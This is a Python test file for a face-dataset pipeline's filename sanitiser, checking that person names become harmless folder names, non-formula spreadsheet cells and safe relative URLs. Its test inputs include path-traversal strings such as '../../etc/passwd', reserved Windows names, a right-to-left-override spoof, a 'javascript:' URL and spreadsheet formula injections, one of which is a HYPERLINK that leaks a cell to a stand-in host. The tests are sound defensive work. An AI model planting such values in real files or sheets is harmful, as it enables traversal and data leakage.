"""A person's name never leaves its folder, whatever it is."""

import re
from pathlib import Path, PureWindowsPath

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from facepipe.files.names import (
    name_beside,
    natural_key,
    not_a_formula,
    person_folder,
    relative_url,
    safe_name,
    told_apart,
)
from facepipe.files.removal import folded


@given(st.text(st.characters(), max_size=400))
@example("..")
@example("con.txt")
@example("a" * 300)
@example("é" * 300)
@example("\ud800")
@example(". =x")
@example("=")
@example("/;")
@example("/, '")
def test_any_name_is_one_harmless_component(name):
    safe = safe_name(name)
    assert safe_name(safe) == safe
    assert safe not in ("", ".", "..", "unknown")
    assert Path(safe).name == safe
    assert PureWindowsPath(safe).name == safe
    assert not PureWindowsPath(safe).is_reserved() if hasattr(PureWindowsPath, "is_reserved") else True
    assert len(safe.encode()) <= 200
    assert safe.isprintable() or not any(ord(char) < 32 for char in safe)


@pytest.mark.parametrize("name", ["person_001", "Ana María", "Jürgen O'Neil", "山田 太郎", "Dr. Who", "A & B", "100 %"])
def test_ordinary_names_are_kept(name):
    assert safe_name(name) == name


def test_a_name_is_one_however_its_accents_are_written():
    assert safe_name("Zoe\u0301") == safe_name("Zo\u00e9") == "Zo\u00e9"
    assert safe_name("Zoe\u0301/") == safe_name("Zo\u00e9/")


@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd", "/abs", "a/b", "a\\b", "C:evil", "..", ".", "", ".hidden", "x.", "x ", "a\nb", "a\0b", "NUL",
     "com1.jpg", "Unknown", "\u202egpj.exe", "x" * 201],
)  # fmt: skip
def test_dangerous_names_are_changed_and_stay_different(name):
    assert safe_name(name) != name
    assert safe_name(name) != safe_name(name + "?")


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://x.example/?"&A1)', "+1", "-1", "@x", "=1+1", " =1", ".=1", "\t=1", "\n@x", "\uff1d1", "-",
     "a;=1+1", "a,'+1", "== =1"],
)  # fmt: skip
def test_no_name_is_a_formula_in_a_spreadsheet(name):
    safe = safe_name(name)
    assert safe != name and safe_name(safe) == safe
    for cell in re.split("[;,\t]", safe):
        assert not cell.lstrip(" '\"").startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20")), safe
    assert safe_name(name) != safe_name(name + "?")


@pytest.mark.parametrize("name", ["Jean-Luc", "Anna @ work", "A+B", "1 = 1", "_x"])
def test_signs_inside_a_name_are_no_formula(name):
    assert safe_name(name) == name == not_a_formula(name)


def test_names_that_differ_in_case_or_accents_alone_are_told_apart():
    apart = told_apart(["anna", "Ben", "Anna", "ANNA", "Zoe\u0301", "Zo\u00e9"])
    assert apart["ANNA"] == "ANNA" and apart["Ben"] == "Ben"
    assert len({folded(name) for name in apart.values()}) == 6
    assert apart["anna"].startswith("anna-") and apart == told_apart(reversed(list(apart)))
    assert all(safe_name(name) == name for name in apart.values())


def test_unknown_has_its_own_folder():
    assert person_folder("") == "unknown"
    assert person_folder("unknown") != "unknown"


def test_natural_order():
    names = ["person_10", "person_2", "anna", "person_2b", "2", "²"]
    assert sorted(names, key=natural_key) == ["2", "anna", "person_2", "person_2b", "person_10", "²"]


def test_what_is_made_of_a_file_is_called_after_it():
    assert name_beside("trip.2022", "_dataset") == "trip.2022_dataset"
    assert name_beside("a\nb", "_dataset") == "a_b_dataset"
    assert name_beside("é" * 150, "_dataset") == "é" * 100 + "_dataset"


@pytest.mark.parametrize(
    ("path", "folder", "url"),
    [
        ("/a/b/c.mp4", "/a/out", "../b/c.mp4"),
        ("/a/out/c.mp4", "/a/out", "c.mp4"),
        ("/a/x y #1?.jpg", "/a/out", "../x%20y%20%231%3F.jpg"),
        ("/a/out/javascript:1", "/a/out", "javascript%3A1"),
        ("/a/out/\udce9.jpg", "/a/out", "%E9.jpg"),
    ],
)
def test_an_address_leads_from_a_folder_to_a_file(path, folder, url):
    assert relative_url(Path(path), Path(folder)) == url
